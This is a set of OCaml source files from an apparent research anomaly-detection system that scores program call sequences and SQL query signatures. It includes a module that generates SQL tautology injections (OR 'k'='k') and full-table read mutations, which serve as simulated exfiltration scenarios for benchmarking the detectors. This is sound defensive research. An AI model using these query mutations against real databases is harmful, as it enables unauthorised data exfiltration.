      (** a known call from a caller never seen issuing it *)
  | Statically_impossible_pair of (string * Analysis.Symbol.t)
      (** an out-of-context pair the static analysis proved the program
          cannot produce at all — trace tampering or a profile/program
          mismatch rather than behavioural drift; requires
          {!set_static_pairs}, otherwise such pairs report as
          {!Unknown_pair} *)
  | Statically_impossible_window
      (** every symbol and pair is known, but the call-sequence
          automaton proves no execution of the program emits this
          window in this order — requires {!set_static_dfa} *)
  | Below_threshold  (** HMM likelihood under the detection threshold *)

type contribution = {
  position : int;  (** index within the window *)
  symbol : Analysis.Symbol.t;
  caller : string;
  surprisal : float;
      (** [-log P(o_i | o_0..o_{i-1})] under the profile's HMM;
          [infinity] for symbols outside the alphabet *)
}

type explanation = {
  gate : gate;  (** the highest-priority gate that fired *)
  verdict : verdict;
  exp_threshold : float;  (** threshold in force when classified *)
  margin : float;
      (** how decisively the gate fired: [threshold -. score] (strictly
          positive) for {!Below_threshold}, [infinity] for the
          categorical gates — always non-negative *)
  top : contribution list;  (** most surprising steps, descending *)
}

val explain : ?top:int -> t -> Window.t -> explanation option
(** [None] exactly when {!classify} returns [Normal]. Gate priority:
    [Unknown_symbol] over [Unknown_pair] / [Statically_impossible_pair]
    (the latter when {!set_static_pairs} facts rule the pair out) over
    [Below_threshold]. [top] (default 3) bounds the ranked
    contributions. Costs one extra forward pass over the window — only
    ever paid on anomalies. *)

val gate_to_string : gate -> string
val explanation_to_string : explanation -> string

val extend : t -> Window.t list -> t
(** [Profile.extend] then recompile: the new engine starts with an
    empty memo, so no verdict of the old model can leak past the
    extension. The old engine stays valid for the old profile. *)

val invalidate : t -> unit
(** Drop every memoized verdict (hit/miss counters are preserved). *)

val cache_hits : t -> int
val cache_misses : t -> int
val cache_len : t -> int
val cache_capacity : t -> int

module Stream : sig
  (** Per-session incremental scoring over the engine: a ring of int
      codes (symbols are interned once, at [push]), classified on every
      arrival once full. All sessions of a domain share the engine's
      verdict memo, so tenants replaying similar windows score each
      other's work. Feeding a whole trace and flushing yields exactly
      the verdicts of [monitor] on that trace. *)

  type engine = t

  type t

  val create : ?window:int -> engine -> t
  (** [window] defaults to the profile's window length.
      @raise Invalid_argument if [window <= 0]. *)

  val engine : t -> engine
  val window : t -> int

  val push : t -> Runtime.Collector.event -> (verdict option, string) result
  (** Ingest one event; [Ok (Some verdict)] once at least [window]
      events have been seen. After {!flush}, a soft [Error] — never an
      exception — so a daemon shard can account a protocol slip without
      dying. *)

  val flush : t -> verdict option
  (** End of session: a non-empty session shorter than the window
      yields its single whole-trace verdict. Idempotent. *)

  val events_seen : t -> int
  val flushed : t -> bool

  val explain_last : ?top:int -> t -> explanation option
  (** Explain the window most recently scored by {!push} (the full
      ring) or {!flush} (the short tail). [None] if that window was
      [Normal], or if nothing has been classified yet. *)
end

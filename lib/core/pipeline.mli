(** End-to-end orchestration: subject application -> traces -> windows
    -> profile, plus the parameter presets for the three systems
    compared in the paper (AD-PROM, CMarkov, Rand-HMM). *)

type app = {
  name : string;
  source : string;  (** AppLang source text *)
  dbms : string;  (** display name, e.g. "PostgreSQL" (Table III) *)
  setup_db : Sqldb.Engine.t -> unit;  (** schema + seed rows; no-op for non-DB apps *)
  test_cases : Runtime.Testcase.t list;
}

type dataset = {
  app : app;
  analysis : Analysis.Analyzer.t;
  traces : (Runtime.Testcase.t * Runtime.Collector.trace) list;
  windows : Window.t list;  (** all Normal-sequences, window length applied *)
}

val analyze_app : app -> Analysis.Analyzer.t
(** Parse and statically analyze the app.
    @raise Applang.Parser.Error / [Applang.Lexer.Error] on bad source. *)

val fresh_engine : app -> Sqldb.Engine.t
(** New engine with the app's schema and seed data. *)

val run_case :
  ?patches:Runtime.Patch.t list ->
  ?query_rewriter:(string -> string) ->
  ?analysis:Analysis.Analyzer.t ->
  app ->
  Runtime.Testcase.t ->
  Runtime.Collector.trace * Runtime.Interp.outcome
(** Execute one test case on a fresh engine, collecting the trace.
    [analysis] defaults to a fresh analysis of [app.source] (pass it to
    reuse, or to run attacked variants against their own analysis). *)

val collect : ?window:int -> app -> dataset
(** Run every test case and window the traces (Normal-sequences). *)

val adprom_params : Profile.params
val cmarkov_params : Profile.params
(** pCTM-initialized but without data-flow labels (Xu et al.'s view). *)

val rand_hmm_params : Profile.params
(** Random initialization, labels kept (Guevara et al.'s view). *)

val train : ?params:Profile.params -> dataset -> Profile.t

val train_engine :
  ?params:Profile.params -> ?cache_capacity:int -> dataset -> Scoring.t
(** [train] followed by {!Scoring.create}: the profile compiled into a
    ready-to-serve scoring engine (interned symbol tables, preallocated
    forward-pass buffers, verdict memo). What the bench experiments and
    the CLI use so classification never pays per-window setup. *)

val collect_outcomes :
  ?analysis:Analysis.Analyzer.t -> app -> Runtime.Interp.outcome list
(** Run every test case for its outcome only (no trace windowing) —
    the training input of the query-signature axis. *)

val train_qsig : ?analysis:Analysis.Analyzer.t -> app -> Qsig.t
(** Query-signature profile over all training outcomes ({!Audit.learn}
    on {!collect_outcomes}). *)

val train_qsig_engine :
  ?policy:Adprom_qsig.Constraints.policy ->
  ?analysis:Analysis.Analyzer.t ->
  app ->
  Adprom_qsig.Engine.t
(** {!train_qsig} compiled for repeated checking. *)

module P = Adprom_qsig.Profile

type t = P.t

let malformed_name = "<malformed>"

let empty = P.create ()

let learn t sql =
  let t = P.copy t in
  P.learn t sql;
  t

let learn_run t queries =
  let t = P.copy t in
  P.learn_run t queries;
  t

let of_runs runs = P.of_runs runs

let of_logs logs = P.of_logs logs

let profile t = t

let of_profile p = p

let engine ?policy t = Adprom_qsig.Engine.create ?policy t

let known t sql =
  match Adprom_qsig.Signature.of_sql sql with
  | Ok s -> P.mem t s
  | Error _ -> P.malformed_count t > 0

let unknown_in_run t queries =
  let seen = Hashtbl.create 8 in
  List.filter_map
    (fun sql ->
      let name =
        match Adprom_qsig.Signature.of_sql sql with
        | Ok s -> Adprom_qsig.Signature.to_string s
        | Error _ -> malformed_name
      in
      if known t sql || Hashtbl.mem seen name then None
      else begin
        Hashtbl.replace seen name ();
        Some name
      end)
    queries

let signatures t =
  let names = P.signatures t in
  let names = if P.malformed_count t > 0 then malformed_name :: names else names in
  List.sort String.compare names

let cardinality t = P.cardinality t + if P.malformed_count t > 0 then 1 else 0

(** Vetting a profile against the program it claims to model.

    The serving layer loads a trained {!Profile.t} and a program and
    must decide whether to trust the pair. This module runs the
    {!Analysis.Vet} program checks plus the profile-coverage
    cross-check, projected into the profile's label view
    ([use_labels = false] strips DB-output labels from the static facts
    the same way training stripped them from the windows).

    Error-class findings ([undefined-callee],
    [profile-symbol-unreachable], [profile-pair-impossible]) mean the
    profile cannot have been trained on this program (or the program
    changed underneath it); warning-class findings are training gaps or
    latent program defects that merit logging but not refusal. *)

type policy =
  | Off  (** skip vetting entirely *)
  | Warn  (** report diagnostics, serve anyway *)
  | Enforce  (** refuse to serve when any error-class finding exists *)

val policy_to_string : policy -> string

val policy_of_string : string -> policy option
(** ["off"], ["warn"], ["enforce"]. *)

val coverage :
  ?entry:string -> Profile.t -> Analysis.Analyzer.t -> Analysis.Diag.t list
(** Only the profile-coverage cross-check
    ({!Analysis.Vet.check_coverage} under the profile's label view). *)

val check :
  ?entry:string -> Profile.t -> Analysis.Analyzer.t -> Analysis.Diag.t list
(** Program checks plus {!coverage}, sorted with
    {!Analysis.Diag.compare}. *)

val static_pairs : ?entry:string -> Analysis.Analyzer.t -> (string * Analysis.Symbol.t) list
(** The statically possible (caller, call) pairs of the analyzed
    program — feed to {!Scoring.set_static_pairs} so explanations can
    name statically impossible pairs. *)

val apply :
  policy -> ?entry:string -> Profile.t -> Analysis.Analyzer.t -> Analysis.Diag.t list
(** Run {!check} under the policy. [Off] does nothing and returns [].
    [Warn] returns the diagnostics for the caller to log. [Enforce]
    additionally @raise Invalid_argument when error-class findings
    exist, naming them. *)

(** Vetting a profile against the program it claims to model.

    The serving layer loads a trained {!Profile.t} and a program and
    must decide whether to trust the pair. This module runs the
    {!Analysis.Vet} program checks plus the profile-coverage
    cross-check, projected into the profile's label view
    ([use_labels = false] strips DB-output labels from the static facts
    the same way training stripped them from the windows).

    Error-class findings ([undefined-callee],
    [profile-symbol-unreachable], [profile-pair-impossible]) mean the
    profile cannot have been trained on this program (or the program
    changed underneath it); warning-class findings are training gaps or
    latent program defects that merit logging but not refusal. *)

type policy =
  | Off  (** skip vetting entirely *)
  | Warn  (** report diagnostics, serve anyway *)
  | Enforce  (** refuse to serve when any error-class finding exists *)

val policy_to_string : policy -> string

val policy_of_string : string -> policy option
(** ["off"], ["warn"], ["enforce"]. *)

val automaton :
  ?entry:string ->
  ?state_budget:int ->
  Profile.t ->
  Analysis.Analyzer.t ->
  Analysis.Seqauto.t
(** Build the program's call-sequence automaton in the profile's label
    view, on the pruned CFGs — the form {!Scoring.set_static_dfa}
    expects and {!coverage}'s n-gram cross-check consumes. *)

val model_bigrams : Profile.t -> Analysis.Symbol.t list list
(** Observation bigrams the trained HMM gives real support (emission
    and transition probabilities clearly above the Baum-Welch smoothing
    floor) — the model's own 2-gram language, for the n-gram coverage
    cross-check. *)

val coverage :
  ?entry:string ->
  ?automaton:Analysis.Seqauto.t ->
  Profile.t ->
  Analysis.Analyzer.t ->
  Analysis.Diag.t list
(** Only the profile-coverage cross-check
    ({!Analysis.Vet.check_coverage} under the profile's label view).
    With [automaton], additionally cross-checks {!model_bigrams}
    against the automaton's language ([profile-ngram-impossible]). *)

val check :
  ?entry:string ->
  ?automaton:Analysis.Seqauto.t ->
  Profile.t ->
  Analysis.Analyzer.t ->
  Analysis.Diag.t list
(** Program checks plus {!coverage}, sorted with
    {!Analysis.Diag.compare}. *)

val static_pairs : ?entry:string -> Analysis.Analyzer.t -> (string * Analysis.Symbol.t) list
(** The statically possible (caller, call) pairs of the analyzed
    program — feed to {!Scoring.set_static_pairs} so explanations can
    name statically impossible pairs. *)

val apply :
  policy ->
  ?entry:string ->
  ?automaton:Analysis.Seqauto.t ->
  Profile.t ->
  Analysis.Analyzer.t ->
  Analysis.Diag.t list
(** Run {!check} under the policy. [Off] does nothing and returns [].
    [Warn] returns the diagnostics for the caller to log. [Enforce]
    additionally @raise Invalid_argument when error-class findings
    exist, naming them. *)

(** Online monitoring with an adaptive threshold (Sec. IV-D: "the
    security administrator can change the detector's threshold over
    time to reduce the false positive rate when there are legitimate
    changes in the program behavior").

    A monitor wraps a trained profile — compiled once into a private
    {!Scoring} engine — and the administrator feeds back which alarms
    were false; every [adjust_every] windows the threshold moves toward
    the target false-positive rate (each move flushes the engine's
    verdict memo, so stale flags never survive an adaptation). *)

type t

val create : ?target_fp_rate:float -> ?adjust_every:int -> Profile.t -> t
(** Defaults: target 1%%, adjustment every 200 windows. *)

val threshold : t -> float
(** Current (possibly adapted) threshold. *)

val classify : t -> Window.t -> Detector.verdict
(** Classify under the current threshold and account the window. *)

val monitor_trace : t -> Runtime.Collector.trace -> (Window.t * Detector.verdict) list

val report_false_positive : t -> unit
(** Administrator feedback: the latest alarm was legitimate behaviour. *)

val windows_seen : t -> int
val alarms_raised : t -> int

module Symbol = Analysis.Symbol
module Vet = Analysis.Vet
module Diag = Analysis.Diag

type policy = Off | Warn | Enforce

let policy_to_string = function Off -> "off" | Warn -> "warn" | Enforce -> "enforce"

let policy_of_string = function
  | "off" -> Some Off
  | "warn" -> Some Warn
  | "enforce" -> Some Enforce
  | _ -> None

(* The profile's label view: CMarkov-style profiles never saw DB-output
   labels, so the static facts must drop them too before comparing. *)
let project_facts (profile : Profile.t) (facts : Vet.facts) =
  if profile.Profile.params.Profile.use_labels then facts
  else
    {
      facts with
      Vet.symbols = Symbol.Set.map Symbol.strip_label facts.Vet.symbols;
      pairs =
        List.sort_uniq compare
          (List.map (fun (c, s) -> (c, Symbol.strip_label s)) facts.Vet.pairs);
    }

let automaton ?entry ?state_budget (profile : Profile.t) analysis =
  Analysis.Seqauto.build ?entry ?state_budget
    ~use_labels:profile.Profile.params.Profile.use_labels
    analysis.Analysis.Analyzer.pruned_cfgs analysis.Analysis.Analyzer.callgraph

(* Bigrams the trained model actually supports: (a, b) such that some
   state pair (i, j) emits a from i, transitions i -> j, and emits b
   from j, each with probability clearly above the Baum-Welch smoothing
   floor (1e-6) — the floor keeps every cell non-zero, so "supported"
   needs a coarser threshold. *)
let support_epsilon = 1e-4

let model_bigrams (profile : Profile.t) =
  let model = profile.Profile.model in
  let n = model.Hmm.n and m = model.Hmm.m in
  let alphabet = profile.Profile.alphabet in
  (* states emitting each symbol, states reachable from each state *)
  let emitters =
    Array.init m (fun o ->
        List.filter
          (fun i -> Mlkit.Matrix.get model.Hmm.b i o > support_epsilon)
          (List.init n Fun.id))
  in
  let bigrams = ref [] in
  for a = m - 1 downto 0 do
    for b = m - 1 downto 0 do
      let supported =
        List.exists
          (fun i ->
            List.exists
              (fun j -> Mlkit.Matrix.get model.Hmm.a i j > support_epsilon)
              emitters.(b))
          emitters.(a)
      in
      if supported then bigrams := [ alphabet.(a); alphabet.(b) ] :: !bigrams
    done
  done;
  !bigrams

let coverage ?entry ?automaton (profile : Profile.t) analysis =
  let facts =
    project_facts profile (Vet.facts ?entry analysis.Analysis.Analyzer.cfgs)
  in
  let known_pairs =
    Hashtbl.fold (fun p () acc -> p :: acc) profile.Profile.known_pairs []
    |> List.sort compare
  in
  let automaton = Option.map (fun a sl -> Analysis.Seqauto.accepts a sl) automaton in
  let model_ngrams =
    match automaton with Some _ -> model_bigrams profile | None -> []
  in
  Vet.check_coverage ?automaton ~model_ngrams facts
    ~alphabet:(Array.to_list profile.Profile.alphabet)
    ~known_pairs

let check ?entry ?automaton profile analysis =
  List.sort Diag.compare
    (Vet.check_program ?entry analysis.Analysis.Analyzer.cfgs
    @ coverage ?entry ?automaton profile analysis)

let static_pairs ?entry analysis =
  (Vet.facts ?entry analysis.Analysis.Analyzer.cfgs).Vet.pairs

let apply policy ?entry ?automaton profile analysis =
  match policy with
  | Off -> []
  | Warn -> check ?entry ?automaton profile analysis
  | Enforce -> (
      let diags = check ?entry ?automaton profile analysis in
      match Diag.errors diags with
      | [] -> diags
      | errs ->
          invalid_arg
            (Printf.sprintf "Profile_check: profile failed vet (%s): %s"
               (Diag.summary diags)
               (String.concat "; " (List.map Diag.to_string errs))))

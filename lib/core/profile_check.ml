module Symbol = Analysis.Symbol
module Vet = Analysis.Vet
module Diag = Analysis.Diag

type policy = Off | Warn | Enforce

let policy_to_string = function Off -> "off" | Warn -> "warn" | Enforce -> "enforce"

let policy_of_string = function
  | "off" -> Some Off
  | "warn" -> Some Warn
  | "enforce" -> Some Enforce
  | _ -> None

(* The profile's label view: CMarkov-style profiles never saw DB-output
   labels, so the static facts must drop them too before comparing. *)
let project_facts (profile : Profile.t) (facts : Vet.facts) =
  if profile.Profile.params.Profile.use_labels then facts
  else
    {
      facts with
      Vet.symbols = Symbol.Set.map Symbol.strip_label facts.Vet.symbols;
      pairs =
        List.sort_uniq compare
          (List.map (fun (c, s) -> (c, Symbol.strip_label s)) facts.Vet.pairs);
    }

let coverage ?entry (profile : Profile.t) analysis =
  let facts =
    project_facts profile (Vet.facts ?entry analysis.Analysis.Analyzer.cfgs)
  in
  let known_pairs =
    Hashtbl.fold (fun p () acc -> p :: acc) profile.Profile.known_pairs []
    |> List.sort compare
  in
  Vet.check_coverage facts
    ~alphabet:(Array.to_list profile.Profile.alphabet)
    ~known_pairs

let check ?entry profile analysis =
  List.sort Diag.compare
    (Vet.check_program ?entry analysis.Analysis.Analyzer.cfgs
    @ coverage ?entry profile analysis)

let static_pairs ?entry analysis =
  (Vet.facts ?entry analysis.Analysis.Analyzer.cfgs).Vet.pairs

let apply policy ?entry profile analysis =
  match policy with
  | Off -> []
  | Warn -> check ?entry profile analysis
  | Enforce -> (
      let diags = check ?entry profile analysis in
      match Diag.errors diags with
      | [] -> diags
      | errs ->
          invalid_arg
            (Printf.sprintf "Profile_check: profile failed vet (%s): %s"
               (Diag.summary diags)
               (String.concat "; " (List.map Diag.to_string errs))))

type finding =
  | Unknown_query_signature of string
  | Tainted_file_command of { path : string; command : string }

let learn outcomes =
  Qsig.of_runs (List.map (fun (o : Runtime.Interp.outcome) -> o.Runtime.Interp.queries) outcomes)

let contains ~needle haystack =
  let n = String.length needle and h = String.length haystack in
  n > 0
  &&
  let rec probe i = i + n <= h && (String.sub haystack i n = needle || probe (i + 1)) in
  probe 0

let finding_to_string = function
  | Unknown_query_signature s -> Printf.sprintf "unknown query signature: %s" s
  | Tainted_file_command { path; command } ->
      Printf.sprintf "command %S touches labeled file %s" command path

let audit ~qsig (outcome : Runtime.Interp.outcome) =
  let query_findings =
    List.map
      (fun s -> Unknown_query_signature s)
      (Qsig.unknown_in_run qsig outcome.Runtime.Interp.queries)
  in
  let file_findings =
    List.concat_map
      (fun command ->
        List.filter_map
          (fun path ->
            if contains ~needle:path command then
              Some (Tainted_file_command { path; command })
            else None)
          outcome.Runtime.Interp.tainted_files)
      outcome.Runtime.Interp.system_calls
  in
  let findings = query_findings @ file_findings in
  List.iter
    (fun f ->
      Adprom_obs.Log.emit Adprom_obs.Log.Warn ~scope:"audit"
        ~fields:
          [
            ( "kind",
              Adprom_obs.Log.Str
                (match f with
                | Unknown_query_signature _ -> "unknown_query_signature"
                | Tainted_file_command _ -> "tainted_file_command") );
          ]
        (finding_to_string f))
    findings;
  findings

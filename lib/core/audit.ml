type finding =
  | Unknown_query_signature of string
  | Query_anomaly of { sql : string; detail : string }
  | Tainted_file_command of { path : string; command : string }

let learn outcomes =
  (* Prepare-time texts register their shape only; executed queries
     (parameters bound in, cardinality known) train the constraints. *)
  let profile = Adprom_qsig.Profile.create () in
  List.iter
    (fun (o : Runtime.Interp.outcome) ->
      List.iter (Adprom_qsig.Profile.learn_shape profile) o.Runtime.Interp.queries;
      Adprom_qsig.Profile.learn_log profile o.Runtime.Interp.query_log)
    outcomes;
  Qsig.of_profile profile

let contains ~needle haystack =
  let n = String.length needle and h = String.length haystack in
  n > 0
  &&
  let rec probe i = i + n <= h && (String.sub haystack i n = needle || probe (i + 1)) in
  probe 0

let finding_to_string = function
  | Unknown_query_signature s -> Printf.sprintf "unknown query signature: %s" s
  | Query_anomaly { sql; detail } -> Printf.sprintf "anomalous query %S: %s" sql detail
  | Tainted_file_command { path; command } ->
      Printf.sprintf "command %S touches labeled file %s" command path

(* Engine reasons already reported as unknown signatures (or counted as
   malformed) by the set-membership pass are dropped here; what remains
   is the constraint-aware layer: widening, slot and cardinality. *)
let constraint_reasons verdict =
  List.filter
    (function
      | Adprom_qsig.Engine.Unknown_signature _
      | Adprom_qsig.Engine.Impossible_signature _
      | Adprom_qsig.Engine.Malformed _ ->
          false
      | Adprom_qsig.Engine.Tautology | Adprom_qsig.Engine.Constant_comparison
      | Adprom_qsig.Engine.Slot_violation _
      | Adprom_qsig.Engine.Cardinality_blowup _ ->
          true)
    verdict.Adprom_qsig.Engine.reasons

let audit ?policy ~qsig (outcome : Runtime.Interp.outcome) =
  let query_findings =
    List.map
      (fun s -> Unknown_query_signature s)
      (Qsig.unknown_in_run qsig outcome.Runtime.Interp.queries)
  in
  let engine = Qsig.engine ?policy qsig in
  let constraint_findings =
    List.concat_map
      (fun (sql, rows) ->
        match constraint_reasons (Adprom_qsig.Engine.check ~rows engine sql) with
        | [] -> []
        | reasons ->
            [
              Query_anomaly
                {
                  sql;
                  detail =
                    String.concat "; "
                      (List.map Adprom_qsig.Engine.reason_to_string reasons);
                };
            ])
      outcome.Runtime.Interp.query_log
  in
  let file_findings =
    List.concat_map
      (fun command ->
        List.filter_map
          (fun path ->
            if contains ~needle:path command then
              Some (Tainted_file_command { path; command })
            else None)
          outcome.Runtime.Interp.tainted_files)
      outcome.Runtime.Interp.system_calls
  in
  let findings = query_findings @ constraint_findings @ file_findings in
  List.iter
    (fun f ->
      Adprom_obs.Log.emit Adprom_obs.Log.Warn ~scope:"audit"
        ~fields:
          [
            ( "kind",
              Adprom_obs.Log.Str
                (match f with
                | Unknown_query_signature _ -> "unknown_query_signature"
                | Query_anomaly _ -> "query_anomaly"
                | Tainted_file_command _ -> "tainted_file_command") );
          ]
        (finding_to_string f))
    findings;
  findings

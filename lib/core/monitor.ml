type t = {
  profile : Profile.t;
  engine : Scoring.t;  (* compiled once; the adaptive threshold lives here *)
  target_fp_rate : float;
  adjust_every : int;
  mutable seen : int;  (** windows since the last adjustment *)
  mutable confirmed_fp : int;  (** admin-confirmed false alarms since then *)
  mutable total_seen : int;
  mutable total_alarms : int;
}

let create ?(target_fp_rate = 0.01) ?(adjust_every = 200) profile =
  {
    profile;
    engine = Scoring.create profile;
    target_fp_rate;
    adjust_every;
    seen = 0;
    confirmed_fp = 0;
    total_seen = 0;
    total_alarms = 0;
  }

let threshold t = Scoring.threshold t.engine

let maybe_adapt t =
  if t.seen >= t.adjust_every then begin
    let recent_fp_rate = float_of_int t.confirmed_fp /. float_of_int t.seen in
    (* moving the threshold flushes the engine's verdict memo *)
    Scoring.set_threshold t.engine
      (Threshold.adaptive ~current:(Scoring.threshold t.engine) ~recent_fp_rate
         ~target_fp_rate:t.target_fp_rate);
    t.seen <- 0;
    t.confirmed_fp <- 0
  end

let classify t window =
  let verdict = Scoring.classify t.engine window in
  t.seen <- t.seen + 1;
  t.total_seen <- t.total_seen + 1;
  if verdict.Detector.flag <> Detector.Normal then t.total_alarms <- t.total_alarms + 1;
  maybe_adapt t;
  verdict

let monitor_trace t trace =
  List.map
    (fun w -> (w, classify t w))
    (Window.of_trace ~window:t.profile.Profile.params.Profile.window trace)

let report_false_positive t = t.confirmed_fp <- t.confirmed_fp + 1

let windows_seen t = t.total_seen
let alarms_raised t = t.total_alarms

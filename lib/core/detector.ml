module Symbol = Analysis.Symbol

type flag = Scoring.flag =
  | Normal
  | Anomalous
  | Data_leak
  | Out_of_context

type verdict = Scoring.verdict = {
  flag : flag;
  score : float;
  unknown_symbol : bool;
  unknown_pair : (string * Symbol.t) option;
}

let flag_to_string = function
  | Normal -> "normal"
  | Anomalous -> "anomalous"
  | Data_leak -> "data-leak"
  | Out_of_context -> "out-of-context"

let severity = function
  | Normal -> 0
  | Anomalous -> 1
  | Out_of_context -> 2
  | Data_leak -> 3

(* The specification path: score and flag a window directly against the
   profile, with no interning, no scratch reuse and no memo. The
   compiled engine is property-tested to agree with this bit for bit;
   it also serves as the pre-compilation baseline in the benches. *)
let reference_classify profile window =
  let w = Profile.prepare profile window in
  let score = Profile.score profile w in
  let unknown_symbol =
    Array.exists
      (fun s -> not (Symbol.Table.mem profile.Profile.obs_index s))
      w.Window.obs
  in
  let unknown_pair =
    if not profile.Profile.params.Profile.track_callers then None
    else
      List.find_opt
        (fun (caller, sym) -> not (Profile.known_pair profile caller sym))
        (Window.pairs w)
  in
  let anomalous =
    score < profile.Profile.threshold || unknown_symbol || unknown_pair <> None
  in
  let flag =
    if not anomalous then Normal
    else if Window.contains_labeled_output w then Data_leak
    else if unknown_pair <> None then Out_of_context
    else Anomalous
  in
  { flag; score; unknown_symbol; unknown_pair }

let classify profile window = Scoring.classify (Scoring.of_profile profile) window

let monitor profile trace = Scoring.monitor (Scoring.of_profile profile) trace

let worst verdicts =
  List.fold_left
    (fun acc v -> if severity v.flag > severity acc then v.flag else acc)
    Normal verdicts

type surprise = {
  position : int;
  symbol : Symbol.t;
  caller : string;
  surprisal : float;
}

let explain ?(top = 3) profile window =
  let w = Profile.prepare profile window in
  let n = Array.length w.Window.obs in
  if n = 0 then []
  else begin
    let surprisals =
      match Window.encode ~index:(Symbol.Table.find_opt profile.Profile.obs_index) w with
      | Some codes -> Hmm.step_surprisals profile.Profile.model codes
      | None ->
          (* Unknown symbols dominate; known positions fall back to zero
             so the unknown ones rank first. *)
          Array.init n (fun i ->
              if Symbol.Table.mem profile.Profile.obs_index w.Window.obs.(i) then 0.0
              else infinity)
    in
    let entries =
      List.init n (fun i ->
          {
            position = i;
            symbol = w.Window.obs.(i);
            caller = w.Window.callers.(i);
            surprisal = surprisals.(i);
          })
    in
    let sorted = List.sort (fun a b -> compare b.surprisal a.surprisal) entries in
    List.filteri (fun i _ -> i < top) sorted
  end

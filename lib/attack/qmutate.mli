(** Query-mutation scenario generator: the insider/MITM workload family
    the call-sequence HMM is blind to. Every mutation keeps the
    program's library-call sequence intact and rewrites only the SQL on
    the wire (the {!Scenario.Mitm} vector), which is exactly the case
    the paper's Sec. VII mitigation note concedes to the query axis.

    Three mutation kinds generalize Attack 5 into a benchable family:

    - {!Tautology_widening}: [WHERE p] becomes [WHERE p OR 'k'='k'] —
      the Fig. 2 injection shape, widening selectivity to every row;
    - {!Cardinality_blowup}: WHERE and LIMIT dropped from reads — the
      leak channel itself, a full-table result;
    - {!Literal_out_of_band}: structure preserved, literals pushed far
      outside their trained ranges/shapes (e.g. a reporting threshold
      of 200 turned into 300306). *)

type kind = Tautology_widening | Cardinality_blowup | Literal_out_of_band

val kind_to_string : kind -> string
val all_kinds : kind list

val mutate_statement :
  ?variant:int -> kind -> Sqldb.Sql_ast.statement -> Sqldb.Sql_ast.statement

val mutate_sql : ?variant:int -> kind -> string -> string
(** Rewrite one wire-level query text. Non-SELECT statements and
    unparseable text pass through unchanged (a stealthy exfiltration
    widens reads, it does not break writes). [variant] varies the
    injected constants so the family is not one memorizable string. *)

val scenario : ?variant:int -> kind -> Scenario.t
(** A MITM scenario applying the mutation to all wire traffic. *)

val family : ?variants:int -> unit -> Scenario.t list
(** The benchable family: [variants] scenarios (default 4) of each
    kind, [3 * variants] in total. *)

val run_logs :
  Scenario.t ->
  Adprom.Pipeline.app ->
  (Runtime.Testcase.t * (string * int) list) list
(** Execute every test case of the scenario's malicious variant and
    return the per-case executed-query logs — the query-axis input. *)

module Ast = Sqldb.Sql_ast

type kind = Tautology_widening | Cardinality_blowup | Literal_out_of_band

let kind_to_string = function
  | Tautology_widening -> "tautology_widening"
  | Cardinality_blowup -> "cardinality_blowup"
  | Literal_out_of_band -> "literal_out_of_band"

let all_kinds = [ Tautology_widening; Cardinality_blowup; Literal_out_of_band ]

(* The constant the tautology compares; varied per scenario so the
   mutated family is not one memorizable string. *)
let taut_atom variant =
  let s = Printf.sprintf "%d" (1 + (variant mod 9)) in
  Ast.Cmp (Ast.Ceq, Ast.Lit (Ast.L_str s), Ast.Lit (Ast.L_str s))

let widen_where variant = function
  | Some e -> Some (Ast.Or (e, taut_atom variant))
  | None -> Some (taut_atom variant)

let out_of_band_literal variant = function
  | Ast.L_int n -> Ast.L_int ((n * 1001) + 100003 + variant)
  | Ast.L_str s -> Ast.L_str (s ^ String.make 32 'z')
  | (Ast.L_null | Ast.L_param _) as l -> l

let mutate_statement ?(variant = 0) kind stmt =
  match kind with
  | Tautology_widening -> (
      match stmt with
      | Ast.Select s -> Ast.Select { s with where = widen_where variant s.where }
      | Ast.Update u -> Ast.Update { u with where = widen_where variant u.where }
      | Ast.Delete d -> Ast.Delete { d with where = widen_where variant d.where }
      | (Ast.Create _ | Ast.Insert _) as s -> s)
  | Cardinality_blowup -> (
      match stmt with
      | Ast.Select s -> Ast.Select { s with where = None; limit = None }
      | Ast.Update u -> Ast.Update { u with where = None }
      | Ast.Delete d -> Ast.Delete { d with where = None }
      | (Ast.Create _ | Ast.Insert _) as s -> s)
  | Literal_out_of_band -> Ast.map_literals (out_of_band_literal variant) stmt

let reads_rows = function
  | Ast.Select _ -> true
  | Ast.Create _ | Ast.Insert _ | Ast.Update _ | Ast.Delete _ -> false

(* Wire-level rewrite: leave non-SELECT traffic and unparseable text
   alone so the program keeps functioning — a stealthy exfiltration
   widens reads, it does not break writes. *)
let mutate_sql ?variant kind sql =
  match Sqldb.Sql_parser.parse sql with
  | stmt when reads_rows stmt ->
      Sqldb.Sql_pp.to_string (mutate_statement ?variant kind stmt)
  | _ -> sql
  | exception Sqldb.Sql_parser.Error _ -> sql
  | exception Sqldb.Sql_lexer.Error _ -> sql

let scenario ?(variant = 0) kind =
  {
    Scenario.id = Printf.sprintf "q_mut_%s_%d" (kind_to_string kind) variant;
    description =
      Printf.sprintf
        "MITM query mutation (%s, variant %d): call sequence intact, SELECTs rewritten \
         on the wire"
        (kind_to_string kind) variant;
    vector = Scenario.Mitm (mutate_sql ~variant kind);
  }

let family ?(variants = 4) () =
  List.concat_map
    (fun kind -> List.init variants (fun v -> scenario ~variant:v kind))
    all_kinds

let run_logs scenario app =
  let malicious, patches, query_rewriter = Scenario.apply scenario app in
  let analysis = Adprom.Pipeline.analyze_app malicious in
  List.map
    (fun tc ->
      let _, outcome =
        Adprom.Pipeline.run_case ~patches ?query_rewriter ~analysis malicious tc
      in
      (tc, outcome.Runtime.Interp.query_log))
    malicious.Adprom.Pipeline.test_cases

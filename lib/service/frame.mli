(** The versioned binary wire protocol of the scale-out tier.

    Every frame is [magic(2) version(1) type(1) length(4, big-endian)]
    followed by [length] payload bytes. Integers inside payloads are
    LEB128 varints (zigzag for the possibly-negative block id), floats
    are IEEE-754 bits (so scores survive the wire bit-for-bit), and the
    caller/symbol strings of call events are {e interned per
    connection}: the first use ships the bytes and assigns the next
    table index, every later use is a one-or-two-byte back-reference —
    the Calls Collector re-emits the same few dozen strings millions of
    times, and this is what keeps the frame for a typical call event
    under ten bytes.

    Frame kinds: [Hello] (version negotiation, exchanged once per
    connection), [Call]/[Query] (the stream items), [Ack] (periodic
    ingestion feedback from a node), [Metrics_req]/[Metrics_resp]
    (cross-node metrics aggregation), [Bye] (end of stream — the node
    drains its daemon and answers with) [Summary] (per-session verdicts,
    shed accounting, rendered incidents and fused axes). Version 2 adds
    the operations plane: [Clock_probe]/[Clock_reply] (per-peer clock
    offset estimation), [Trace_mark] (cross-node trace propagation
    ahead of each batch), [Health_req]/[Health_resp] (fleet health
    rollup carrying a value-level metrics snapshot) and
